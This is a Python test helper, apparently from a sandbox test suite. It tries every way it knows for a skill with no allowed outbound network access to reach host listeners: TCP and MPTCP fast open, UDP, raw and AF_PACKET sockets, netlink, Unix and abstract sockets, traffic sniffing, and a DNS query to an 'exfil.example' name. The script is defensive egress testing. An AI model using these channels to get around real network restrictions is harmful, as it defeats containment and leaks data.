"""Every way out to the listeners the test holds on the host, from a skill
whose `network.outbound` is empty. argv[1] is a JSON object: `token` (the
bytes each attempt sends), `tcp4`, `tcp6`, `udp4`, `udp6` (host ports),
`unix_stream`, `unix_dgram` (socket paths), `abstract` (an abstract socket
name), `beacon` (what the host sends itself meanwhile, which a sniffing
socket would see). Prints one JSON line: what each attempt returned. The test judges
from the listeners, not from this report."""

import errno
import json
import os
import socket
import struct
import sys
import time

P = json.loads(sys.argv[1])
TOKEN = P["token"].encode()
IPPROTO_MPTCP = 262
MSG_FASTOPEN = 0x20000000
TCP_FASTOPEN_CONNECT = 30
ETH_P_IP = 0x0800
ETH_P_ALL = 0x0003
results = {}


def attempt(name, action):
    """Runs one attempt; what it sends names it, for the test's message."""
    global TOKEN
    TOKEN = f"{P['token']} {name}".encode()
    try:
        results[name] = {"ok": True, "detail": action()}
    except OSError as error:
        results[name] = {"ok": False, "errno": errno.errorcode.get(error.errno, error.errno), "error": str(error)}
    except Exception as error:  # noqa: BLE001 - a report, whatever happened
        results[name] = {"ok": False, "error": repr(error)}


def stream(family, proto, address, how="connect"):
    sock = socket.socket(family, socket.SOCK_STREAM, proto)
    # Blocking, with timeouts: a non-blocking fast open sends the SYN alone.
    timeval = struct.pack("ll", 2, 0)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, timeval)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVTIMEO, timeval)
    try:
        if how == "fastopen":
            sent = sock.sendto(TOKEN, MSG_FASTOPEN, address)
            return f"sent {sent} with the SYN"
        if how == "fastopen_connect":
            sock.setsockopt(socket.IPPROTO_TCP, TCP_FASTOPEN_CONNECT, 1)
        sock.connect(address)
        sock.sendall(TOKEN)
        return "connected"
    finally:
        sock.close()


def datagram(family, address, payload=None, how="sendto"):
    payload = payload or TOKEN
    sock = socket.socket(family, socket.SOCK_DGRAM)
    try:
        if how == "connect":
            sock.connect(address)
            return f"sent {sock.send(payload)}"
        if how == "sendmsg":
            return f"sent {sock.sendmsg([payload], [], 0, address)}"
        return f"sent {sock.sendto(payload, address)}"
    finally:
        sock.close()


def dns_query(name):
    header = struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    labels = b"".join(bytes([len(part)]) + part for part in name.encode().split(b"."))
    return header + labels + b"\x00" + struct.pack("!HH", 1, 1)


def checksum(data):
    if len(data) % 2:
        data += b"\x00"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def udp_header(port, payload):
    return struct.pack("!HHHH", 40000, port, 8 + len(payload), 0) + payload


def ipv4_packet(port, payload):
    udp = udp_header(port, payload)
    header = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0x4242, 0, 64, socket.IPPROTO_UDP, 0,
        socket.inet_aton("127.0.0.1"), socket.inet_aton("127.0.0.1"),
    )
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    return header + udp


def raw_udp():
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
    try:
        return f"sent {sock.sendto(udp_header(P['udp4'], TOKEN), ('127.0.0.1', 0))}"
    finally:
        sock.close()


def raw_ip():
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    try:
        return f"sent {sock.sendto(ipv4_packet(P['udp4'], TOKEN), ('127.0.0.1', 0))}"
    finally:
        sock.close()


def sniff(sock):
    """Reads what the socket sees of the host's traffic for half a second:
    the test sends `beacon` datagrams between two host sockets meanwhile."""
    sock.settimeout(0.1)
    deadline = time.monotonic() + 0.5
    seen = 0
    while time.monotonic() < deadline:
        try:
            data = sock.recv(65536)
        except socket.timeout:
            continue
        seen += 1
        if P["beacon"].encode() in data:
            return f"saw the host's beacon after {seen} packets"
    return f"saw {seen} packets, no beacon"


def raw_sniff():
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
    try:
        return sniff(sock)
    finally:
        sock.close()


def packet():
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    try:
        sock.bind(("lo", ETH_P_ALL))
        frame = b"\x00" * 12 + struct.pack("!H", ETH_P_IP) + ipv4_packet(P["udp4"], TOKEN)
        sent = sock.send(frame)
        return f"sent {sent} bytes on lo; {sniff(sock)}"
    finally:
        sock.close()


def netlink():
    sock = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)  # NETLINK_ROUTE
    try:
        sock.bind((0, 0))
        # RTM_GETLINK, NLM_F_REQUEST | NLM_F_DUMP, then an ifinfomsg.
        sock.send(struct.pack("=LHHLL", 32, 18, 0x301, 1, 0) + b"\x00" * 16)
        names = []
        done = False
        while not done:
            data = sock.recv(65536)
            offset = 0
            while offset + 16 <= len(data):
                length, kind = struct.unpack_from("=LH", data, offset)
                if kind in (2, 3) or length < 16:  # NLMSG_ERROR, NLMSG_DONE
                    done = True
                    break
                attribute = offset + 16 + 16
                while attribute + 4 <= offset + length:
                    size, name = struct.unpack_from("=HH", data, attribute)
                    if size < 4:
                        break
                    if name == 3:  # IFLA_IFNAME
                        names.append(data[attribute + 4 : attribute + size].rstrip(b"\x00").decode())
                    attribute += (size + 3) & ~3
                offset += (length + 3) & ~3
        return names
    finally:
        sock.close()


def unix(kind, address):
    sock = socket.socket(socket.AF_UNIX, kind)
    sock.settimeout(2)
    try:
        if kind == socket.SOCK_DGRAM:
            return f"sent {sock.sendto(TOKEN, address)}"
        sock.connect(address)
        sock.sendall(TOKEN)
        return "connected"
    finally:
        sock.close()


attempt("tcp4", lambda: stream(socket.AF_INET, 0, ("127.0.0.1", P["tcp4"])))
attempt("mptcp4", lambda: stream(socket.AF_INET, IPPROTO_MPTCP, ("127.0.0.1", P["tcp4"])))
attempt("tcp4_fastopen", lambda: stream(socket.AF_INET, 0, ("127.0.0.1", P["tcp4"]), "fastopen"))
attempt("tcp4_fastopen_connect", lambda: stream(socket.AF_INET, 0, ("127.0.0.1", P["tcp4"]), "fastopen_connect"))
attempt("mptcp4_fastopen", lambda: stream(socket.AF_INET, IPPROTO_MPTCP, ("127.0.0.1", P["tcp4"]), "fastopen"))
attempt("udp4", lambda: datagram(socket.AF_INET, ("127.0.0.1", P["udp4"])))
attempt("udp4_connected", lambda: datagram(socket.AF_INET, ("127.0.0.1", P["udp4"]), how="connect"))
attempt("udp4_sendmsg", lambda: datagram(socket.AF_INET, ("127.0.0.1", P["udp4"]), how="sendmsg"))
attempt("dns4", lambda: datagram(socket.AF_INET, ("127.0.0.1", P["udp4"]), dns_query(P["token"] + ".exfil.example")))
if P.get("tcp6"):
    attempt("tcp6", lambda: stream(socket.AF_INET6, 0, ("::1", P["tcp6"])))
    attempt("mptcp6", lambda: stream(socket.AF_INET6, IPPROTO_MPTCP, ("::1", P["tcp6"])))
    attempt("tcp6_fastopen", lambda: stream(socket.AF_INET6, 0, ("::1", P["tcp6"]), "fastopen"))
    attempt("tcp4_mapped_v6", lambda: stream(socket.AF_INET6, 0, ("::ffff:127.0.0.1", P["tcp4"])))
if P.get("udp6"):
    attempt("udp6", lambda: datagram(socket.AF_INET6, ("::1", P["udp6"])))
    attempt("dns6", lambda: datagram(socket.AF_INET6, ("::1", P["udp6"]), dns_query(P["token"] + ".exfil.example")))
    attempt("udp4_mapped_v6", lambda: datagram(socket.AF_INET6, ("::ffff:127.0.0.1", P["udp4"])))
attempt("raw_udp", raw_udp)
attempt("raw_ip_hdrincl", raw_ip)
attempt("raw_sniff", raw_sniff)
attempt("af_packet", packet)
attempt("netlink_route", netlink)
attempt("if_nameindex", lambda: [name for _, name in socket.if_nameindex()])
attempt("unix_stream", lambda: unix(socket.SOCK_STREAM, P["unix_stream"]))
attempt("unix_dgram", lambda: unix(socket.SOCK_DGRAM, P["unix_dgram"]))
attempt("unix_abstract", lambda: unix(socket.SOCK_STREAM, "\0" + P["abstract"]))
print(json.dumps({"case": "network", "results": results}))
